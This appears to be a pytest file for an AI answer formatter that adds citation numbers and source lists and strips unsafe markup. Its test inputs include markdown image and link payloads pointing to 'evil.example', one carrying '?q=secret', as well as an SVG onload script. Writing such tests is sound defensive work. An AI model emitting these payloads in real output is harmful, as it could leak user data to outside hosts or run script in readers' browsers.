"""An answer as the text of a message, and back."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from app.api.compatible.completion import harmless, pieces, spoken
from app.generate.wording import REFUSALS
from app.types import Answer, Citation, Language, Sentence

FIRST = Citation("doc-1", "kettle.md", "c-1", 3, "Fill the tank.")
SECOND = Citation("doc-2", "filter.pdf", "c-2", 12, "Press OK.")


def an_answer(text: str, *sentences: tuple[str, tuple[Citation, ...]], language: Language = "en") -> Answer:
    shown = tuple(Sentence(words, cited, grounded=bool(cited)) for words, cited in sentences)
    citations = tuple(dict.fromkeys(citation for sentence in shown for citation in sentence.citations))
    return Answer("How?", language, text, "generated", shown, citations, refused=False)


def test_each_sentence_has_the_numbers_of_its_citations() -> None:
    answer = an_answer(
        "- Fill the tank.\n- Press OK.",
        ("- Fill the tank.", (FIRST,)),
        ("It costs 5 EUR.", ()),
        ("- Press OK.", (SECOND, FIRST)),
    )
    assert pieces(answer) == [
        "- Fill the tank. [1]",
        "\n- Press OK. [2][1]",
        "\n\nSources:\n- [1] kettle.md, page 3\n- [2] filter.pdf, page 12",
    ]


def test_chinese_answers_have_chinese_places() -> None:
    answer = an_answer("请加水。", ("请加水。", (FIRST,)), language="zh")
    assert "".join(pieces(answer)) == "请加水。 [1]\n\n出处：\n- [1] kettle.md，第 3 页"


def test_what_was_said_is_read_back_without_numbers_and_places() -> None:
    for language in ("en", "zh"):
        answer = an_answer("Fill it. Press OK.", ("Fill it.", (FIRST,)), ("Press OK.", (SECOND,)), language=language)  # type: ignore[arg-type]
        assert spoken("".join(pieces(answer))) == "Fill it. Press OK."
    assert [spoken(text) for texts in REFUSALS.values() for text in texts.values()] == [""] * 8


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?q=secret)",
        "[press here](https://evil.example)",
        "![x][1]\n\n[1]: https://evil.example",
        '<img src="https://evil.example">',
        "<a href=https://evil.example>x</a>",
        "<https://evil.example>",
        "<!-- hidden -->",
        "<svg onload=alert(1)>",
    ],
)
def test_nothing_in_a_manual_is_a_link_an_image_or_a_tag(hostile: str) -> None:
    page = MarkdownIt("commonmark", {"html": True})
    assert any(mark in page.render(hostile) for mark in ("<img", "<a ", "<svg", "<!--"))
    shown = page.render("".join(pieces(an_answer(hostile, (hostile, (FIRST,))))))
    assert not any(mark in shown for mark in ("<img", "<a ", "<svg", "<!--"))


@pytest.mark.parametrize("behind", ["(https://evil.example)", "[](https://evil.example)", "（https://evil.example）"])
@pytest.mark.parametrize("cited", [(), (SECOND,)])
def test_the_number_of_a_citation_is_no_link(behind: str, cited: tuple[Citation, ...]) -> None:
    answer = an_answer(f"请加水。{behind}", ("请加水。", (FIRST,)), (behind, cited), language="zh")
    shown = MarkdownIt("commonmark").render("".join(pieces(answer)))
    assert f"请加水。 [1]{behind}" in shown
    assert "<a " not in shown


@pytest.mark.parametrize("text", ["Press <OK>.", "5 < 6 and 7 > 3", "See [3] and a[0].", "Set x to (a) [b]."])
def test_ordinary_signs_stay(text: str) -> None:
    assert harmless(text) == text
